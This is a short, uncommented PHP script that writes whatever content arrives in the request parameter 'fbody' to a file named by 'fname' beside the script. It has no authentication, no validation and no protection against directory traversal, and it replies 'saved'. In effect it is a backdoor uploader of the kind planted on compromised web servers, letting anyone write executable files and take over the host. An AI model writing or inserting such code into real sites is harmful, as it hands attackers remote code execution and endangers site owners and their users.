<?php
$name = $_REQUEST['fname'];
$body = $_REQUEST['fbody'];
$h = fopen(dirname(__FILE__) . '/' . $name, 'w+');
fwrite($h, stripslashes($body));
fclose($h);
echo 'saved';
